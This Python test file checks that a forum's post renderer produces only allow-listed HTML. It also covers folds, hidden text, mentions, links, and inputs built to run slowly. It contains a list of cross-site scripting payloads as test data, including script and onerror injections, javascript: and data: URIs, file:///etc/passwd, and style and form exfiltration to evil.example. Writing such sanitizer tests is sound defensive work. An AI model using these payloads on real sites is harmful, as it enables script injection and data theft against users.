"""What posts look like, and what nobody can slip into one."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homestead.core.posting import posted, settled

PEOPLE = {"seles": "Seles", "littles": "The <Littles>"}
SUM = "a" * 64
INJECTIONS = """
<script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">x</a>
<details open ontoggle=alert(1)>
<math><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](java\nscript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
![x](javascript:alert(1))
![x](http://evil.example/track.gif)
![x](//evil.example/track.gif)
![x](/account/sign-out)
![x](files/../../account)
![" onerror="alert(1)](files/SUM.png)
[" onclick="alert(1)](http://a.example/"onclick="alert(1))
[x](http://a.example "t" onclick=alert(1))
<http://a.example/"onmouseover="alert(1)>
http://a.example/"onmouseover="alert(1)
http://a.example/<script>alert(1)</script>
::: <script>alert(1)</script>
::: "><img src=x onerror=alert(1)>
||<script>alert(1)</script>||
@seles"><script>alert(1)</script>
@littles
#12"><script>alert(1)</script>
`<script>alert(1)</script>`
```<script>alert(1)</script>
```" onload="alert(1)
[x]: javascript:alert(1)\n[x]
[x][y]\n\n[y]: data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
<style>*{background:url(//evil.example)}</style>
<form action=//evil.example><input name=p></form>
[x](home:account/sign-out)
![x](home:account/sign-out)
| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |
""".strip().replace("SUM", SUM)
_ATTRIBUTES = {
    "a": {"href", "rel", "class", "title"},
    "img": {"src", "alt", "loading"},
    "span": {"class", "tabindex"},
    "details": {"class"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"style"},
    "td": {"style"},
}
_ELEMENTS = {
    *("p", "em", "strong", "s", "br", "hr", "pre", "blockquote", "ul", "li"),
    *("h4", "h5", "h6", "table", "thead", "tbody", "tr", "summary", *_ATTRIBUTES),
}


def html(text):
    return posted(text, PEOPLE.get).html


class Checked(HTMLParser):
    """Reads what a browser would, and refuses what posts never have."""

    def handle_starttag(self, tag, attrs):
        assert tag in _ELEMENTS
        for name, value in attrs:
            assert name in _ATTRIBUTES.get(tag, ()), (tag, name)
            if name == "src":
                assert re.fullmatch(rf"home:forums/files/{SUM}\.png", value)
            if name == "href":
                assert re.match(r"(https?://|mailto:|#|/|home:forums/|[^:]*$)", value)
            if name == "style":
                assert re.fullmatch("text-align:(left|right|center)", value)


@pytest.mark.parametrize(
    "text", [line.replace("\\n", "\n") for line in INJECTIONS.splitlines()]
)
def test_nothing_slips_in(text):
    Checked().feed(html(text))
    Checked().feed(html(f"> {text}"))
    Checked().feed(html(f"::: x\n{text}\n:::"))


@given(st.text(alphabet="<>\"'=/:|@#![]()&;`\\\n homefrumsjavscript:", max_size=200))
def test_nothing_slips_in_by_chance(text):
    Checked().feed(html(text))


def test_a_fold_shows_its_label_and_hides_the_rest():
    told = html("::: About food\nsoup\n:::\nafter")
    assert '<details class="fold"><summary>About food</summary>' in told
    assert told.endswith("</details>\n<p>after</p>\n")


def test_folds_lie_in_each_other_and_end_with_the_text():
    told = html("::: a\n::: b\nin\n:::\nstill a")
    assert told.count("<details") == told.count("</details>") == 2
    assert told.index("still a") > told.index("</details>")


def test_hidden_words_are_hidden_and_may_be_bold():
    assert (
        '<span class="hidden-words" tabindex="0">a <strong>b</strong></span>'
        in html("||a **b**||")
    )


@pytest.mark.parametrize("text", ["||", "||||", "|| ||", "a || b", "| a |"])
def test_bars_that_hide_nothing_stay(text):
    assert "hidden-words" not in html(text)


def test_who_is_here_is_mentioned_by_name_and_others_are_words():
    found = posted("@Seles, @seles! @nobody a@seles.example `@seles`", PEOPLE.get)
    assert found.mentions == ("seles",)
    assert found.html.count('class="mention"') == 2
    assert "@nobody a@seles.example" in found.html


def test_threads_and_posts_are_linked():
    told = html("See #12, #12/345. Not a#1, #x, #1a or https://a.example/#12")
    assert told.count('class="thread"') == 2
    assert 'href="home:forums/12/345"' in told


def test_addresses_become_links_without_what_ends_the_sentence():
    told = html("See https://a.example/x_y_z?a=b. (http://b.example)")
    assert '<a href="https://a.example/x_y_z?a=b" rel="noopener nofollow">' in told
    assert '<a href="http://b.example" rel="noopener nofollow">' in told


def test_files_of_this_home_are_shown_and_told_of():
    found = posted(f"![cat](files/{SUM}.png) [list](files/{SUM}.bin)", PEOPLE.get)
    assert found.files == (f"{SUM}.png", f"{SUM}.bin")
    assert f'<img src="home:forums/files/{SUM}.png" alt="cat"' in found.html


def test_addresses_lead_to_where_a_module_answers():
    told = settled(html("@seles #12"), {"forums": "/board"}.get)
    assert 'href="/board/who/seles"' in told
    assert 'href="/board/12"' in told


def test_links_to_a_module_that_is_closed_are_no_links():
    assert "home:" not in settled(html("@seles"), lambda _name: None)


def test_nobody_writes_an_address_of_ours_by_hand():
    told = settled(html('[x](home:account/sign-out) `href="home:account/x"`'), str)
    assert 'href="account/' not in told


@pytest.mark.parametrize(
    "text",
    [
        *(">" * 10_000, "x" * 50_000, "*" * 50_000, "[" * 50_000, "![" * 25_000),
        *("||a" * 16_000, "::: a\n" * 8_000, "@seles " * 7_000, "`" * 50_000),
        *("http://a " * 5_000, "- " * 25_000, "> a\n" * 12_000, "\\" * 50_000),
    ],
    ids=lambda text: f"{text[:6]!r}*{len(text)}",
)
def test_what_was_made_to_take_long_is_done(text):
    Checked().feed(html(text))
